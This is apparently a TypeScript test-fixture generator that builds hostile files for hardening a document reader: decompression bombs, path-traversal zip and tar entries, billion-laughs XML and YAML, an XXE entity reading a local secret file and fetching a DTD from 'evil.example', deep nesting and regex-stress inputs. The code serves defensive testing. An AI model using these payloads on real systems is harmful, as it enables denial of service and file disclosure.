// Files made to take all memory, all time or all disk of who reads them, or to make them read something else.
import { gzipSync } from 'node:zlib';
import { strToU8 } from 'fflate';
import { makeTar, makeZip, type ZipMember } from './make-archive';
import { docxParagraph, makeDocx } from './make-docx';
import { makeEpub } from './make-epub';
import { makeMail, multipart } from './make-mail';
import { makeOpenDocument } from './make-opendocument';
import { assemblePdf } from './make-pdf';
import { makePng } from './make-scan';

const MEGABYTE = 1024 * 1024;
/** Beyond what all archives in one file may unfold to. */
const TOO_MUCH = 210 * MEGABYTE;

export interface Bomb {
  fileName: string;
  bytes: Uint8Array;
}

/** @param secret a file outside the folder: its path, and nothing of what stands in it, may turn up anywhere */
export function makeBombs(secret: string): Bomb[] {
  const made = (fileName: string, content: Uint8Array | string): Bomb => ({
    fileName,
    bytes: typeof content === 'string' ? strToU8(content) : content,
  });
  return [...archives(), ...markup(secret), ...nested(), ...slow(), ...others()].map(([name, content]) =>
    made(name, content),
  );
}

type Made = [string, Uint8Array | string];

function archives(): Made[] {
  const zeros = new Uint8Array(TOO_MUCH);
  const many = (count: number, member: (index: number) => ZipMember): ZipMember[] =>
    Array.from({ length: count }, (_, index) => member(index));
  let inner = makeZip([{ name: 'a.txt', bytes: 'x'.repeat(100_000) }]);
  for (let level = 0; level < 6; level += 1) {
    const bytes = inner;
    inner = makeZip(
      many(5, (index) => ({ name: `${index}.zip`, bytes, ...(index > 0 && { sharesWith: 0 }) })),
    );
  }
  return [
    ['zeros.zip', makeZip([{ name: 'a.txt', bytes: zeros }])],
    ['zeros.txt.gz', gzipSync(zeros)],
    [
      'zeros.docx',
      makeZip([
        { name: '[Content_Types].xml', bytes: '<Types/>' },
        { name: 'word/document.xml', bytes: zeros },
      ]),
    ],
    ['nested.zip', inner],
    [
      'overlapping.zip',
      makeZip(
        many(5_000, (index) => ({
          name: `${index}.txt`,
          bytes: 'y'.repeat(200_000),
          ...(index > 0 && { sharesWith: 0 }),
        })),
      ),
    ],
    [
      'lying.zip',
      makeZip([
        { name: 'a.txt', bytes: 'z', declaredSize: 0xfffffffe },
        { name: 'b.txt', bytes: zeros, declaredSize: 1 },
      ]),
    ],
    [
      'out.zip',
      makeZip([
        { name: '../../../../out.txt', bytes: 'climbing' },
        { name: '/tmp/out.txt', bytes: 'climbing' },
      ]),
    ],
    ['out.tar', makeTar([{ name: '../../../../out.txt', bytes: strToU8('climbing') }])],
  ];
}

/** A billion laughs, and a file of the machine in place of an entity. */
function markup(secret: string): Made[] {
  const laughs = Array.from(
    { length: 9 },
    (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
  ).join('');
  const doctype = `<!DOCTYPE x [<!ENTITY l0 "hahaheehoo">${laughs}<!ENTITY file SYSTEM "file://${secret}"><!ENTITY % out SYSTEM "http://evil.example/x.dtd">%out;]>`;
  const text = 'before &l9; &file; after';
  const word = '<?xml version="1.0"?>';
  return [
    ['laughs.xml', `${word}${doctype}<book><p>${text}</p></book>`],
    ['laughs.svg', `${word}${doctype}<svg xmlns="http://www.w3.org/2000/svg"><text>${text}</text></svg>`],
    ['laughs.rss', `${word}${doctype}<rss><channel><title>${text}</title></channel></rss>`],
    ['laughs.html', `${doctype}<html><body><p>${text}</p></body></html>`],
    [
      'laughs.docx',
      makeDocx({
        body: docxParagraph('x'),
        more: {
          'word/document.xml': strToU8(
            `${word}${doctype}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`,
          ),
        },
      }),
    ],
    [
      'laughs.odt',
      makeOpenDocument({
        body: '',
        more: {
          'content.xml': strToU8(
            `${word}${doctype}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text><text:p>${text}</text:p></office:text></office:body></office:document-content>`,
          ),
        },
      }),
    ],
    [
      'laughs.epub',
      makeEpub({
        chapters: [
          {
            href: 'a.xhtml',
            source: strToU8(
              `${word}${doctype}<html xmlns="http://www.w3.org/1999/xhtml"><body><p>${text}</p></body></html>`,
            ),
          },
        ],
      }),
    ],
    [
      'laughs.yaml',
      `a0: &a0 [x,x,x,x,x,x,x,x,x]\n${Array.from({ length: 9 }, (_, index) => `a${index + 1}: &a${index + 1} [${Array(9).fill(`*a${index}`).join(',')}]`).join('\n')}\n`,
    ],
    [
      'laughs.md',
      `---\na0: &a0 [x,x,x,x,x,x,x,x,x]\n${Array.from({ length: 9 }, (_, index) => `a${index + 1}: &a${index + 1} [${Array(9).fill(`*a${index}`).join(',')}]`).join('\n')}\n---\nbefore after\n`,
    ],
  ];
}

function nested(): Made[] {
  const deep = 500_000;
  const mail = (level: number): { headers: Record<string, string>; body: string } =>
    level === 0
      ? { headers: { 'Content-Type': 'text/plain' }, body: 'inside' }
      : multipart('mixed', [mail(level - 1)], { boundary: `b${level}` });
  const { headers, body } = mail(300);
  return [
    ['deep.json', `${'['.repeat(deep)}1${']'.repeat(deep)}`],
    ['deep.ipynb', `{"nbformat":4,"cells":${'['.repeat(deep)}${']'.repeat(deep)}}`],
    ['deep.html', `<p>before</p>${'<div>'.repeat(deep)}inside`],
    ['deep.xml', `<a>${'<b>'.repeat(deep)}inside${'</b>'.repeat(deep)}</a>`],
    [
      'deep.md',
      `before\n\n${'> '.repeat(50_000)}inside\n\n${'['.repeat(50_000)}\n\n${'- '.repeat(50_000)}x\n`,
    ],
    ['deep.rtf', `{\\rtf1 before ${'{'.repeat(deep)}inside${'}'.repeat(deep)}}`],
    ['deep.ts', `${'('.repeat(200_000)}1${')'.repeat(200_000)}`],
    ['deep.eml', makeMail({ Subject: 'deep', ...headers }, body)],
    ['deep.yaml', `${Array.from({ length: 2_000 }, (_, level) => `${' '.repeat(level)}a:`).join('\n')}\n`],
  ];
}

/** What a careless pattern tries in every way there is. */
function slow(): Made[] {
  const texts = {
    blank: `${' '.repeat(500_000)}x`,
    lines: `${'\n'.repeat(300_000)}x`,
    stars: '*a_`~['.repeat(60_000),
    brackets: '[](<'.repeat(60_000),
    pipes: `|${'-|'.repeat(100_000)}\n`.repeat(2),
    mixed: '\\{{$a:='.repeat(40_000),
  };
  return Object.entries(texts).flatMap(([name, text]) =>
    ['md', 'html', 'adoc', 'eml'].map((extension): Made => {
      const subject = text.slice(0, 100_000).replaceAll('\n', ' ');
      return [`slow-${name}.${extension}`, extension === 'eml' ? `Subject: ${subject}\n\n${text}` : text];
    }),
  );
}

function others(): Made[] {
  return [
    [
      'pages.pdf',
      assemblePdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [2 0 R 2 0 R 3 0 R] /Count 2000000000 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 3 0 R >>',
      ]),
    ],
    [
      'deep.pdf',
      assemblePdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        `<< /Type /Pages /Kids [3 0 R] /Count 1 /X ${'['.repeat(200_000)}${']'.repeat(200_000)} >>`,
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] >>',
      ]),
    ],
    [
      'line.mbox',
      `From a@example.org Fri Mar  1 14:05:00 2024\nSubject: long\n\n${'x'.repeat(40_000_000)}\n`,
    ],
    ['huge.png', makePng(100_000, 100_000, 1, new Uint8Array(10_000_000))],
  ];
}
